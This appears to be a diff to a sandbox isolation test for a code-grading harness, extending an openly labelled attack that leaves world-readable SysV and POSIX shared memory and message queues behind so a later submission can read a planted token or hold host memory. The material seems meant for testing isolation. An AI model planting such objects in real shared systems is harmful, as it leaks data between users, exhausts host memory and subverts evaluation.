@@ -1,5 +1,5 @@
-"""Attack: leave SysV shared memory, a message queue, a semaphore set and a POSIX message queue (all mode 0666)
-behind, for the next submission to read, or to hold the host's memory after the sandbox is gone.
+"""Attack: leave SysV shared memory, a message queue, a semaphore set, a POSIX message queue and a POSIX
+shared memory object (all mode 0666) behind, for the next submission to read, or to hold the host's memory.
 
 ``plant`` creates them under fixed keys and names and writes a token; ``harvest`` (another submission)
 looks them up by those keys and reads what it finds.
@@ -16,6 +16,7 @@ import torch
 
 KEY = 0x5EC7E7
 MQ_NAME = b"/vitgrade_leak"
+SHM_PATH = "/dev/shm/vitgrade_leak"  # what shm_open("/vitgrade_leak") creates
 IPC_CREAT, IPC_NOWAIT, O_RDONLY, O_CREAT, O_RDWR, O_NONBLOCK = 0o1000, 0o4000, 0, 0o100, 2, 0o4000
 SIZE = 1 << 20
 
@@ -42,7 +43,7 @@ class _Message(ctypes.Structure):
 
 def plant(token: str) -> torch.Tensor:
     """Create the four objects holding ``token``; 1 for each one created."""
-    made = [0, 0, 0, 0]
+    made = [0, 0, 0, 0, 0]
     shm = _libc.shmget(KEY, SIZE, IPC_CREAT | 0o666)
     if shm >= 0:
         address = _libc.shmat(shm, None, 0)
@@ -61,13 +62,19 @@ def plant(token: str) -> torch.Tensor:
     if mq >= 0:
         made[3] = int(_rt.mq_send(mq, token.encode(), len(token), 0) == 0)
         os.close(mq)
+    try:
+        with open(os.open(SHM_PATH, os.O_CREAT | os.O_WRONLY, 0o666), "w") as handle:
+            handle.write(token)
+        made[4] = 1
+    except OSError as error:
+        print("no POSIX shm", error)
     print("PLANTED", made)
     return torch.tensor(made)
 
 
 def harvest() -> torch.Tensor:
     """1 for each object of ``plant`` found (under its key or name), printing what it holds."""
-    found = [0, 0, 0, 0]
+    found = [0, 0, 0, 0, 0]
     shm = _libc.shmget(KEY, 0, 0)
     if shm >= 0:
         found[0] = 1
@@ -89,5 +96,11 @@ def harvest() -> torch.Tensor:
         if _rt.mq_receive(mq, buffer, 8192, None) > 0:
             print("FOUND mq", buffer.value)
         os.close(mq)
+    try:
+        with open(SHM_PATH) as handle:
+            print("FOUND POSIX shm", handle.read())
+        found[4] = 1
+    except OSError:
+        pass
     print("HARVEST", found)
     return torch.tensor(found)
